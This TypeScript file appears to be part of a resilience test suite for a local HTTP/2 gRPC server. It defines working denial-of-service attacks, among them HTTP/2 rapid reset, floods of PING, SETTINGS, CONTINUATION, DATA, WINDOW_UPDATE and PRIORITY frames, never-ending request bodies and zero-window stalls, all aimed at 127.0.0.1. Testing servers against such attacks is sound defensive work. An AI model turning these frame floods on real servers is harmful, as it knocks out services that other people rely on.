import { type ClientHttp2Stream, connect, type Settings } from "node:http2";
import { FLAG, FRAME, frame, GREETING, grpcFields, headerBlock } from "../server/raw-http2.ts";
import { type Attack, flood, METHODS } from "./hostile-socket.ts";
import { LISTED, RUNNING } from "./names.ts";

const WINDOW_UPDATE = 8;
const PRIORITY = 2;
const CANCEL = Buffer.from([0, 0, 0, 8]);
const PAGE = JSON.stringify({ name: LISTED, pageSize: 1_000 });

const waitHeaders = headerBlock({ ...grpcFields(METHODS.wait), "content-type": "application/json" });
const endlessHeaders = frame(FRAME.headers, 0, 1, headerBlock(grpcFields(METHODS.get)));
const more = headerBlock({ "x-more": "x".repeat(1_000) });

function repeated(count: number, part: (i: number) => Uint8Array): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, i) => part(i)));
}

/** A thousand frames of a kind, again and again. */
function floodOf(bytes: Uint8Array, greeting: Uint8Array = GREETING, reads = true): Attack {
  const thousand = repeated(1_000, () => bytes);
  return flood(greeting, () => thousand, { reads });
}

/** Opens streams on one connection. */
function streams(
  count: number,
  path: string,
  settings: Settings,
  use: (stream: ClientHttp2Stream) => void,
): Attack {
  return (port) => {
    const session = connect(`http://127.0.0.1:${port}`, { settings });
    session.on("error", () => {});
    session.on("close", () => setTimeout(() => streams(count, path, settings, use)(port), 20));
    session.once("remoteSettings", () => {
      for (let i = 0; i < count; i++) {
        const headers = { ":method": "POST", ":path": path, "content-type": "application/json" };
        const stream = session.request(headers);
        stream.on("error", () => {});
        use(stream);
      }
    });
  };
}

const ping = frame(FRAME.ping, 0, 0, Buffer.alloc(8));
const settings = frame(FRAME.settings, 0, 0);

export const HTTP2_ATTACKS: Readonly<Record<string, Attack>> = {
  "rapid reset": flood(GREETING, (round) =>
    repeated(500, (i) => {
      const id = 2 * (round * 500 + i) + 1;
      return Buffer.concat([
        frame(FRAME.headers, FLAG.endHeaders, id, waitHeaders),
        frame(FRAME.data, FLAG.endStream, id, Buffer.from(JSON.stringify({ name: RUNNING }))),
        frame(FRAME.rstStream, 0, id, CANCEL),
      ]);
    }),
  ),
  "a flood of PING": floodOf(ping),
  "a flood of PING whose answers are not read": floodOf(ping, GREETING, false),
  "a flood of SETTINGS": floodOf(settings),
  "a flood of SETTINGS whose answers are not read": floodOf(settings, GREETING, false),
  "a flood of CONTINUATION": floodOf(
    frame(FRAME.continuation, 0, 1, more),
    Buffer.concat([GREETING, endlessHeaders]),
  ),
  "a flood of empty CONTINUATION": floodOf(
    frame(FRAME.continuation, 0, 1),
    Buffer.concat([GREETING, endlessHeaders]),
  ),
  "a flood of empty DATA": floodOf(
    frame(FRAME.data, 0, 1),
    Buffer.concat([GREETING, frame(FRAME.headers, FLAG.endHeaders, 1, waitHeaders)]),
  ),
  "a flood of WINDOW_UPDATE": floodOf(frame(WINDOW_UPDATE, 0, 0, Buffer.alloc(4))),
  "a flood of PRIORITY": floodOf(frame(PRIORITY, 0, 1, Buffer.from([0, 0, 0, 3, 1]))),
  "a thousand bodies that never end, on one connection": streams(1_000, METHODS.simulate, {}, (stream) =>
    stream.write(Buffer.alloc(4_000_000, "x")),
  ),
  "a hundred pages that nobody reads, on one connection": streams(
    100,
    METHODS.list,
    { initialWindowSize: 0 },
    (stream) => stream.end(PAGE),
  ),
};
